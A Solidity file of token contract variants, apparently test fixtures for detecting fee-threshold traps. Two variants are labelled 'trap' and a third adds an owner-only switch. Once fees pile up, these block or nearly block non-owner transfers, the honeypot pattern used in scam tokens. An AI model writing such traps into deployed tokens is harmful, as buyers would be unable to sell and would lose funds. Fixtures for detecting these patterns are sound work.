// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface IRouter { function WETH() external view returns (address); function swapExactTokensForETHSupportingFeeOnTransferTokens(uint,uint,address[] calldata,address,uint) external; }
contract Base {
    mapping(address => uint256) internal held;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner = msg.sender;
    uint256 public totalSupply = 1e27;
    event Transfer(address indexed f, address indexed t, uint256 v);
    event Approval(address indexed f, address indexed t, uint256 v);
    modifier onlyOwner() { require(msg.sender == owner); _; }
    function balanceOf(address a) public view virtual returns (uint256) { return held[a]; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external virtual returns (bool) { _move(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external virtual returns (bool) { allowance[f][msg.sender] -= v; _move(f, t, v); return true; }
    function _move(address f, address t, uint256 v) internal virtual { _basic(f,t,v); }
    function _basic(address f, address t, uint256 v) internal { require(held[f] >= v, "balance"); held[f] -= v; held[t] += v; emit Transfer(f, t, v); }
}
abstract contract Fees is Base {
    uint256 public threshold = 1e20; address public pair; bool swapping; IRouter router; address public treasury; uint256 public maxTx; bool public swapEnabled; mapping(address=>bool) public isExcluded; bool public tradingActive;
    function setThreshold(uint256 a) external onlyOwner { require(a >= 1e18 && a <= 1e25); threshold = a; }
    function setMaxTx(uint256 a) external onlyOwner { maxTx = a; }
    function setTreasury(address a) external onlyOwner { treasury = a; }
    function _approve(address o, address s, uint256 v) internal { require(o != address(0)); require(s != address(0)); allowance[o][s] = v; emit Approval(o, s, v); }
    function _swap(uint256 n) internal {
        address[] memory path = new address[](2); path[0] = address(this); path[1] = router.WETH();
        _approve(address(this), address(router), n);
        router.swapExactTokensForETHSupportingFeeOnTransferTokens(n, 0, path, address(this), block.timestamp);
    }
    modifier lockTheSwap() { swapping = true; _; swapping = false; }
}
contract Closing is Fees { // trap: the fees go nowhere, so that transfers fail above the threshold
    function _move(address f, address t, uint256 v) internal override {
        if (held[address(this)] >= threshold) require(f == owner);
        super._move(f, t, v);
    }
}
contract SwitchAbove is Fees { // switch asked where fees are moved
    bool public open;
    function setOpen(bool b) external onlyOwner { open = b; }
    function _move(address f, address t, uint256 v) internal override {
        uint256 own = held[address(this)];
        if (own >= threshold && f != pair) { require(open); _basic(address(this), treasury, own); }
        super._move(f, t, v);
    }
}
contract BoundAbove is Fees { // general _transfer with limits is used for own fees too
    function _tx(address f, address t, uint256 v) internal {
        require(f != address(0) && t != address(0));
        if (f != owner && t != owner) require(v <= maxTx, "max");
        _basic(f, t, v);
    }
    function _move(address f, address t, uint256 v) internal override {
        uint256 own = held[address(this)];
        if (own >= threshold && f != pair) { _tx(address(this), treasury, own); }
        _tx(f, t, v);
    }
}
contract LockAbove is Fees { // lock with require
    modifier nr() { require(!swapping); swapping = true; _; swapping = false; }
    function swapBack() public nr { uint256 own = held[address(this)]; _basic(address(this), treasury, own); }
    function _move(address f, address t, uint256 v) internal override {
        if (held[address(this)] >= threshold && f != pair) swapBack();
        super._move(f, t, v);
    }
}
contract TinyAbove is Fees { // trap: nothing but the threshold can be set, and above it hardly anything may be sent
    uint256 private most = 1;
    function _move(address f, address t, uint256 v) internal override {
        if (held[address(this)] >= threshold) require(v <= most || f == owner);
        super._move(f, t, v);
    }
}
